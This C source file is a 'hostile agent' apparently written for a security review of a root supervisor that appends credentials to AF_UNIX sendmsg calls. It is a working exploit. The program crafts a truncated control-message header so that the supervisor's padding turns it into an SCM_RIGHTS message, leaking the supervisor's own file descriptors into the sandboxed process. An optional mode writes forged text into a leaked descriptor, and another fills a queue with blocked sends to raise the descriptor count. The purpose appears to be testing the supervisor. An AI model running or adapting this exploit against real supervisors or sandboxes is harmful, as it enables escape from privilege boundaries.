/* ha53-agent: hostile agent for review h-attack53 (the caller's credentials
 * a root supervisor appends to the AF_UNIX sends it performs, 9605a0a).
 *
 * Modes (argv[1]):
 *   fdleak [CLEN]  a SOCK_DGRAM socketpair; sendmsg of one byte with a
 *                  control of 13 bytes: a cmsghdr cut short (cmsg_len CLEN,
 *                  default 33; SOL_SOCKET; the first byte of the type, 1:
 *                  SCM_RIGHTS). Unsupervised the kernel sees no message (a
 *                  buffer shorter than one header: CMSG_FIRSTHDR is NULL)
 *                  and the supervisor's walk agrees; the supervisor then
 *                  pads it to 16 and appends its SCM_CREDENTIALS, and the
 *                  kernel reads the cut header whole: SCM_RIGHTS whose
 *                  numbers are the appended bytes (28, 0, 1, 2), looked up
 *                  in the supervisor's table. Receives and prints what came.
 *   fdleak2        the same behind a first, walked message (SCM_RIGHTS with
 *                  no descriptor) and 13 trailing bytes: 29 in all.
 *   fdleakload [N [TRIES]]  fdleak while N threads each wait in a send to a
 *                  full abstract queue of the run (the supervisor holds
 *                  their descriptors, so its table reaches 28).
 *   creds          sends one byte on a socketpair with SO_PASSCRED and
 *                  prints the pid/uid/gid the receiver reads, and getpid().
 *   loop N         N sendmsg of one byte on a SOCK_DGRAM socketpair
 *                  (received as they go); prints the time per call.
 * Exit 0 when the mode did what it tries (fdleak: descriptors arrived). */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static int recv_print(int s)
{
	char byte, cbuf[512], path[64], link[256];
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *cm;
	int got = 0;

	if (recvmsg(s, &mh, MSG_DONTWAIT) < 0) {
		printf("recvmsg: %s\n", strerror(errno));
		return 0;
	}
	for (cm = CMSG_FIRSTHDR(&mh); cm; cm = CMSG_NXTHDR(&mh, cm)) {
		if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_RIGHTS) {
			size_t n = (cm->cmsg_len - CMSG_LEN(0)) / sizeof(int);
			int *fds = (int *)CMSG_DATA(cm);

			for (size_t i = 0; i < n; i++) {
				struct stat st;
				ssize_t l;

				snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
				l = readlink(path, link, sizeof(link) - 1);
				link[l < 0 ? 0 : l] = '\0';
				fstat(fds[i], &st);
				printf("received fd %d -> %s (mode %o, flags %#x)\n", fds[i], link,
				       st.st_mode, fcntl(fds[i], F_GETFL));
				if (S_ISSOCK(st.st_mode)) {
					int dom = -1, proto = -1;
					socklen_t l4 = sizeof(int);

					getsockopt(fds[i], SOL_SOCKET, SO_DOMAIN, &dom, &l4);
					getsockopt(fds[i], SOL_SOCKET, SO_PROTOCOL, &proto, &l4);
					printf("  a socket: domain %d protocol %d\n", dom, proto);
				}
				/* A channel none of our own 0-2 is: what the
				 * supervisor holds for itself (FORGE=text writes
				 * text to it). */
				if (fds[i] > 2 && !S_ISSOCK(st.st_mode) && getenv("FORGE")) {
					struct stat o;
					int ours = 0;

					for (int k = 0; k < 3; k++)
						if (fstat(k, &o) == 0 && o.st_dev == st.st_dev &&
						    o.st_ino == st.st_ino)
							ours = 1;
					if (!ours && write(fds[i], getenv("FORGE"),
							   strlen(getenv("FORGE"))) > 0)
						printf("  wrote FORGE to it\n");
				}
				got++;
			}
		} else if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_CREDENTIALS) {
			struct ucred u;

			memcpy(&u, CMSG_DATA(cm), sizeof(u));
			printf("received creds pid %d uid %u gid %u (getpid %d)\n", u.pid, u.uid,
			       u.gid, getpid());
		}
	}
	return got;
}

static int fdleak(int first, uint64_t clen)
{
	unsigned char ctl[64] = {0};
	size_t len = 0;
	int sv[2], on = 1;
	char byte = 'x';
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl};
	int32_t lt[2] = {SOL_SOCKET, SCM_RIGHTS};

	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
		return perror("socketpair"), 2;
	setsockopt(sv[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof(on));
	if (first) {
		/* A whole SCM_RIGHTS message with no descriptor in it. */
		uint64_t l16 = 16;

		memcpy(ctl, &l16, 8);
		memcpy(ctl + 8, lt, 8);
		len = 16;
	}
	memcpy(ctl + len, &clen, 8);
	memcpy(ctl + len + 8, &lt[0], 4);
	ctl[len + 12] = SCM_RIGHTS;
	len += 13;
	mh.msg_controllen = len;
	if (sendmsg(sv[0], &mh, 0) < 0) {
		printf("sendmsg: %s\n", strerror(errno));
		return 1;
	}
	printf("sendmsg: sent (control %zu bytes)\n", len);
	return recv_print(sv[1]) > 0 ? 0 : 1;
}

/* A blocking send to an abstract name of the run whose receive queue is
 * full: the supervisor waits for room, holding the call's descriptors. */
static void *block_send(void *arg)
{
	struct sockaddr_un *a = arg;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);

	sendto(s, "y", 1, 0, (struct sockaddr *)a, sizeof(sa_family_t) + 10);
	return NULL;
}

static int fdleak_load(int nthreads, int tries)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int r = socket(AF_UNIX, SOCK_DGRAM, 0), s = socket(AF_UNIX, SOCK_DGRAM, 0);
	pthread_t t;

	memcpy(a.sun_path, "\0ha53-full", 10);
	if (bind(r, (struct sockaddr *)&a, sizeof(sa_family_t) + 10) != 0)
		return perror("bind"), 2;
	while (sendto(s, "y", 1, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof(sa_family_t) + 10) ==
	       1)
		;
	for (int i = 0; i < nthreads; i++)
		pthread_create(&t, NULL, block_send, &a);
	usleep(300 * 1000);
	for (int i = 0; i < tries; i++) {
		if (fdleak(0, 33) == 0) {
			printf("fdleak: descriptors on try %d\n", i + 1);
			return 0;
		}
		usleep(10 * 1000);
	}
	return 1;
}

static int creds(void)
{
	int sv[2], on = 1;

	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
		return perror("socketpair"), 2;
	setsockopt(sv[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof(on));
	if (send(sv[0], "x", 1, 0) != 1)
		return perror("send"), 1;
	recv_print(sv[1]);
	return 0;
}

static int loop(long n)
{
	int sv[2];
	char b;
	struct timespec t0, t1;

	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
		return perror("socketpair"), 2;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (long i = 0; i < n; i++) {
		struct iovec iov = {.iov_base = "x", .iov_len = 1};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};

		if (sendmsg(sv[0], &mh, 0) != 1)
			return perror("sendmsg"), 1;
		if (recv(sv[1], &b, 1, 0) != 1)
			return perror("recv"), 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	printf("loop %ld: %.1f us per sendmsg\n", n,
	       ((t1.tv_sec - t0.tv_sec) * 1e9 + (t1.tv_nsec - t0.tv_nsec)) / 1e3 / n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "fdleak"))
		return fdleak(0, argc > 2 ? strtoull(argv[2], NULL, 0) : 33);
	if (!strcmp(argv[1], "fdleak2"))
		return fdleak(1, argc > 2 ? strtoull(argv[2], NULL, 0) : 33);
	if (!strcmp(argv[1], "fdleakload"))
		return fdleak_load(argc > 2 ? atoi(argv[2]) : 12, argc > 3 ? atoi(argv[3]) : 50);
	if (!strcmp(argv[1], "creds"))
		return creds();
	if (!strcmp(argv[1], "loop"))
		return loop(argc > 2 ? atol(argv[2]) : 10000);
	return 2;
}
